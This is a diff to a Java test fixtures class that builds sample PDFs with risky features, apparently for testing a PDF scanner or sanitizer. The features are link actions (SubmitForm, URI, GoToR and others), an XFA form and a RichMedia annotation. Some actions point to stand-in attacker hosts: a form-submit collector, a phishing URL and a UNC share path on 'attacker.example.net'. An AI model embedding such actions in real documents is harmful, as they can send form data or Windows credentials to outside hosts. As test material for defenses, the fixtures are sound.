@@ -132,6 +132,67 @@ public final class Fixtures {
         }, "attachment");
     }
 
+    /**
+     * A link annotation whose action is of the given type (SubmitForm, ImportData, URI, GoToR, GoToE,
+     * RichMediaExecute), written at the COS level with the entries that action type takes.
+     */
+    public static byte[] pdfWithAction(String type) {
+        return pdf(doc -> {
+            COSDictionary action = new COSDictionary();
+            action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
+            action.setItem(COSName.S, COSName.getPDFName(type));
+            switch (type) {
+                case "SubmitForm" -> action.setString(COSName.F, "https://collector.example.net/submit");
+                case "ImportData" -> action.setString(COSName.F, "data.fdf");
+                case "URI" -> action.setString(COSName.getPDFName("URI"), "https://phishing.example.net/");
+                case "GoToR" -> {
+                    action.setString(COSName.F, "\\\\attacker.example.net\\share\\other.pdf");
+                    action.setItem(COSName.D, new COSArray());
+                }
+                case "GoToE" -> action.setItem(COSName.T, new COSDictionary());
+                default -> action.setItem(COSName.getPDFName("TA"), new COSDictionary());
+            }
+            PDAnnotationLink link = new PDAnnotationLink();
+            link.setRectangle(new PDRectangle(10, 10, 100, 20));
+            link.getCOSObject().setItem(COSName.A, action);
+            try {
+                doc.getPage(0).getAnnotations().add(link);
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+        }, "action " + type);
+    }
+
+    /** An interactive form that carries an XFA form (the AcroForm's /XFA entry). */
+    public static byte[] pdfWithXfaForm() {
+        return pdf(doc -> {
+            var form = new org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm(doc);
+            var xfa = new org.apache.pdfbox.cos.COSStream();
+            try (var out = xfa.createOutputStream()) {
+                out.write("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template/></xdp:xdp>".getBytes(StandardCharsets.UTF_8));
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+            form.getCOSObject().setItem(COSName.getPDFName("XFA"), xfa);
+            doc.getDocumentCatalog().setAcroForm(form);
+        }, "xfa");
+    }
+
+    /** A RichMedia annotation (the Flash/video player of PDF 1.7 extension level 3). */
+    public static byte[] pdfWithRichMedia() {
+        return pdf(doc -> {
+            COSDictionary annotation = new COSDictionary();
+            annotation.setItem(COSName.TYPE, COSName.ANNOT);
+            annotation.setItem(COSName.SUBTYPE, COSName.getPDFName("RichMedia"));
+            annotation.setItem(COSName.RECT, new PDRectangle(10, 10, 100, 100).getCOSArray());
+            try {
+                doc.getPage(0).getAnnotations().add(org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation.createAnnotation(annotation));
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+        }, "rich media");
+    }
+
     public static byte[] encryptedPdf(String userPassword) {
         return pdf(doc -> {
             try {
